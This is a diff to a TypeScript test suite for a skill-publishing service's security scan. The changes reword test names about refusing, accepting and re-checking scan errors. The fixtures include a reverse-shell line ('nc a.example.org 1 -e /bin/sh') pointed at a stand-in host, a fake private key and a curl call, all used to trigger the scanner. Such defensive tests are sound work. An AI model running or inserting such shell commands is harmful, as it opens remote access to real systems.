@@ -52,7 +52,7 @@ const shellWith = async (author: string, reason = WHY, file = 'scripts/a.sh', te
 })
 
 describe('an error of the scan', () => {
-  it('refuses with words that say how it may be accepted, and is then a warning with its reason', async () => {
+  it('is refused with how to accept it, and becomes a warning with its reason once accepted', async () => {
     const files = { 'scripts/a.sh': SHELL }
     const problem = await refused(sendSkill(files), 422, 'invalid_skill')
     expect(problem.errors).toEqual([
@@ -67,7 +67,7 @@ describe('an error of the scan', () => {
     ])
   })
 
-  it('is named before others of its rule, and what nobody can accept before all, without a word of accepting', async () => {
+  it('is listed before others of its rule, and errors that cannot be accepted come first, without a hint to accept', async () => {
     const many = `#!/bin/sh\n${'nc a.example.org 1 -e /bin/sh\n'.repeat(5)}`
     const shells = Object.fromEntries(Array.from({ length: 6 }, (_, at) => [`a${at}.sh`, many]))
     const python =
@@ -95,7 +95,7 @@ describe('an error of the scan', () => {
     expect(await kept('history')).toEqual([shown])
   })
 
-  it('needs no word for a file that stays as it is, and keeps who accepted it first', async () => {
+  it('stays accepted for an unchanged file, with the person who first accepted it', async () => {
     const { key } = await makeKey('publisher', 'ada')
     await got(sendSkill({ 'scripts/a.sh': SHELL }, { accept: ACCEPT }, '', key), 201)
     await got(sendSkill({ 'scripts/a.sh': SHELL, 'b.md': 'More.' }), 201)
@@ -105,7 +105,7 @@ describe('an error of the scan', () => {
     expect(await kept('versions')).toEqual([shown, shown, shown])
   })
 
-  it('is needed again for a changed file, for a new file, and in another skill', async () => {
+  it('must be accepted again for a changed file, for a new file, and in another skill', async () => {
     const other = SHELL.replace('a.example', 'b.example')
     await got(sendSkill({ 'scripts/a.sh': SHELL }, { accept: ACCEPT }), 201)
     await refused(sendSkill({ 'scripts/a.sh': other }), 422, 'invalid_skill')
@@ -123,7 +123,7 @@ describe('an error of the scan', () => {
     await refused(sendSkill({ 'scripts/a.sh': SHELL }), 422, 'invalid_skill')
   })
 
-  it('is judged the same on a dry run, which keeps nothing', async () => {
+  it('gets the same verdict on a dry run, which stores nothing', async () => {
     const files = { 'scripts/a.sh': SHELL }
     const before = await stateOfAll()
     await refused(sendSkill(files, {}, '?dry_run=1'), 422, 'invalid_skill')
@@ -133,7 +133,7 @@ describe('an error of the scan', () => {
     expect(await stateOfAll()).toEqual(before)
   })
 
-  it('is accepted over a form and beside an archive as in JSON', async () => {
+  it('can be accepted in a form and beside an archive as in JSON', async () => {
     const files = skillFiles({ name, files: { 'scripts/a.sh': SHELL } })
     const form = new FormData()
     for (const [path, bytes] of files) form.append('files[]', new Blob([bytes]), path)
@@ -151,7 +151,7 @@ describe('an error of the scan', () => {
     await got(archive(JSON.stringify(ACCEPT)), 201)
   })
 
-  it('is forgotten with the versions that were purged', async () => {
+  it('is no longer accepted once its versions are purged', async () => {
     const { skill } = await got<Published>(sendSkill({ 'scripts/a.sh': SHELL }, { accept: ACCEPT }), 201)
     await got(sendSkill({}), 201)
     await got(send(`DELETE /admin/skills/${name}/versions/${skill.digest}`))
@@ -159,7 +159,7 @@ describe('an error of the scan', () => {
     await refused(sendSkill({ 'scripts/a.sh': SHELL, 'b.md': 'B' }), 422, 'invalid_skill')
   })
 
-  it('is accepted skill by skill in a commit, all or nothing', async () => {
+  it('is accepted for each skill in a commit, all or nothing', async () => {
     const wishes: { files: Record<string, string> }[] = []
     for (const skill of [name, `${name}-b`]) {
       const files: Record<string, string> = {}
@@ -195,7 +195,7 @@ describe('an error of the scan', () => {
   })
 })
 
-describe('what cannot be accepted', () => {
+describe('a request to accept is refused for', () => {
   const KEY = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEpAIBAAKCAQEAx8kQ3mP9vTr4wLsq7Yw2Nb5Xc9Kd4Rf\n'.repeat(26)}-----END RSA PRIVATE KEY-----\n`
   const NEVER: readonly (readonly [rule: string, files: Files])[] = [
     ['secret-private-key', { 'a.txt': KEY }],
@@ -205,7 +205,7 @@ describe('what cannot be accepted', () => {
   ]
 
   for (const [rule, files] of NEVER)
-    it(`${rule}: is refused as it is, and as a wish`, async () => {
+    it(`${rule}, with and without it`, async () => {
       const { errors } = await refused(sendSkill(files), 422, 'invalid_skill')
       expect(errors?.every(({ message }) => !message.includes('accept:'))).toBe(true)
       const operation = await refused(
@@ -220,7 +220,7 @@ describe('what cannot be accepted', () => {
       await refused(sendSkill(beside, { accept: ACCEPT }), 422, 'invalid_skill')
     })
 
-  it('what is not an error of the scan, what this skill has not, and what is said twice or without a reason', async () => {
+  it('an unknown rule, a rule without findings, a duplicate, or a missing reason', async () => {
     const files = { 'scripts/a.sh': SHELL }
     const wishes: readonly (readonly [object, string, RegExp])[] = [
       [
@@ -248,7 +248,7 @@ describe('what cannot be accepted', () => {
     await refused(sendSkill({}, { accept: ACCEPT }), 422, 'invalid_request')
   })
 
-  it('more errors than are listed, for nobody knows what the rest is', async () => {
+  it('more errors than are listed, because the rest could be anything', async () => {
     const many = Object.fromEntries(
       Array.from({ length: SCAN_FINDINGS_MAX + 1 }, (_, at) => [`a${at}.sh`, SHELL]),
     )
@@ -258,7 +258,7 @@ describe('what cannot be accepted', () => {
   })
 })
 
-it('what was accepted is kept, however many findings there are', async () => {
+it('an accepted error stays accepted, however many findings there are', async () => {
   const noisy = Object.fromEntries(
     Array.from({ length: PUBLISH_FINDINGS_MAX }, (_, at) => [`a${at}.txt`, 'curl http://a.example.org\n']),
   )
